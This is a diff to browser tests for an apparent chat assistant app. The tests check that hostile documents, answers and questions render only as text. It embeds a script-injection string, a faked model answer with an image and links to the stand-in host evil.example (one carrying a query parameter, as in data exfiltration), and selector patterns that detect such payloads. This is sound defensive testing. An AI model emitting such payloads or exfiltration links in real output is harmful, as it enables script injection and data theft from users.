@@ -32,7 +32,8 @@ def test_a_hostile_document_is_only_read(samples: App, visit: Visit) -> None:
     reader.open_footnote(answer)
 
     expect(reader.source).to_contain_text("<script>window.hacked = 1</script>")
-    assert_harmless(reader)
+    expect(answer.locator("a:not([rel~=noopener][rel~=noreferrer][target=_blank])")).to_have_count(0)
+    assert_harmless(reader, own_links=True)
 
 
 def test_a_hostile_answer_is_only_read(lighthouse: Lighthouse, visit: Visit) -> None:
@@ -46,6 +47,21 @@ def test_a_hostile_answer_is_only_read(lighthouse: Lighthouse, visit: Visit) -> 
     assert_harmless(reader)
 
 
+def test_only_a_link_that_stands_in_the_source_can_be_followed(lighthouse: Lighthouse, visit: Visit) -> None:
+    lured = "![x](http://evil.example/?q=lamp) [prize](http://evil.example/lamp) http://evil.example/lamp"
+    lighthouse.model.default = lights.answer(f"See [the rules]({lights.RULES}). [1] {lured} [1]", delay_s=0.01)
+    reader = visit(lighthouse.app)
+    reader.open()
+
+    reader.ask(lights.QUESTION)
+
+    answer = reader.wait_for_answer("the rules (lighthouse.example)")
+    expect(answer.locator("a[href]")).to_have_count(1)
+    expect(answer.locator(f'a[href="{lights.RULES}"]')).to_have_text("the rules")
+    expect(answer).not_to_contain_text("evil.example")
+    assert_harmless(reader)
+
+
 def test_a_hostile_question_is_only_read(lighthouse: Lighthouse, visit: Visit) -> None:
     """It is also the conversation's title in the sidebar."""
     reader = visit(lighthouse.app)
@@ -54,15 +70,19 @@ def test_a_hostile_question_is_only_read(lighthouse: Lighthouse, visit: Visit) -
     reader.question_box.fill(HOSTILE)
     reader.question_box.press("Enter")
 
-    reader.wait_for_answer()
+    expect(reader.answers.last).to_contain_text("an attempt to change how the assistant works")
     expect(reader.page.get_by_test_id("stChatMessage").first).to_contain_text(":red[stop]")
     expect(reader.keyed("history")).to_contain_text("Zorilla ![seen]")
     assert_harmless(reader)
 
 
-def assert_harmless(reader: Person) -> None:
-    """Nothing on the page ran, was drawn as something else than text, or leads elsewhere."""
+def assert_harmless(reader: Person, *, own_links: bool = False) -> None:
+    """Nothing on the page ran, was drawn as something else than text, or leads elsewhere.
+
+    `own_links`: links that stand in the document an answer cites may be followed by who wants to.
+    """
     page = reader.page.get_by_test_id("stApp")
     expect(page.locator("img[src*=evil], [onerror], a[href^=javascript], .katex")).to_have_count(0)
     assert reader.page.evaluate("window.hacked") is None
-    expect(page.locator("a[href*=evil]")).to_have_count(0, timeout=1000)
+    if not own_links:
+        expect(page.locator("a[href*=evil]")).to_have_count(0, timeout=1000)
